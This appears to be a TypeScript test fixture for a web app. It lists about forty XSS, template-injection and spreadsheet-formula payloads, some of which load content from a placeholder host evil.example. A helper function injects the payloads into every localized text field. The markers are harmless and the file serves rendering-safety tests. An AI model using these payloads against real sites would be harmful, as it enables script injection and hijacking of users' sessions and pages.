/** Markup, handlers, addresses and templates that ran somewhere once; each would set a mark if it ran here. */
export const PAYLOADS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1">',
  '<svg><script>window.__pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '"><img src=x onerror=window.__pwned=1>',
  "'><img src=x onerror=window.__pwned=1>",
  '</title><script>window.__pwned=1</script>',
  '</style><script>window.__pwned=1</script>',
  '</textarea><script>window.__pwned=1</script>',
  'javascript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  '<a href="javascript:window.__pwned=1">x</a>',
  '<body onload=window.__pwned=1>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '<video><source onerror=window.__pwned=1>',
  '<math><mtext><img src=x onerror=window.__pwned=1>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><input type=submit>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '${window.__pwned=1}',
  '$t(constructor)',
  '<%= window.__pwned=1 %>',
  '`${window.__pwned=1}`',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e',
  '<xss style="behavior:url(//evil.example)">',
  '<button formaction=javascript:window.__pwned=1>',
  '<marquee onstart=window.__pwned=1>',
  '<template><img src=x onerror=window.__pwned=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<!--<img src="--><img src=x onerror=window.__pwned=1>">',
  '<![CDATA[<img src=x onerror=window.__pwned=1>]]>',
  '=cmd|"/c calc"!A1',
]

/** Puts payloads, one after another, into every text that a person would read. */
export function poison(json: unknown, next: () => string): unknown {
  if (Array.isArray(json)) return json.map((item) => poison(item, next))
  if (typeof json !== 'object' || json === null) return json
  return Object.fromEntries(
    Object.entries(json).map(([key, value]) => [
      key,
      ['kk', 'ru', 'en'].includes(key) && typeof value === 'string' ? next() : poison(value, next),
    ]),
  )
}
